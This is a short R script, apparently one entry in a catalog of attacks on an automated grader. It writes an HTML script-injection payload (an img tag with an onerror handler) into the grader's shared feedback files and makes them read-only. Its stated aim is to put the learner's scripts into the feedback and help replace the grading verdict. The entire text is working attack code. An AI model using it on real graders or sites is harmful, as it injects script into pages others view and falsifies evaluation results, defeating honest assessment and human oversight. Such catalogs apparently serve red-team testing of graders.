# ---
# tries: Writes a page of feedback of its own beside the verdict.
# place: before
# gain: feedback with the learner's scripts in it
# helps: replace-verdict
# ---
for (path in c("/shared/htmlFeedback.html", "/shared/txtFeedback.txt")) {
  writeLines("<img alt=\"@NONCE@\" src=\"x\" onerror=\"alert(1)\">", path)
  Sys.chmod(path, "0444")
}
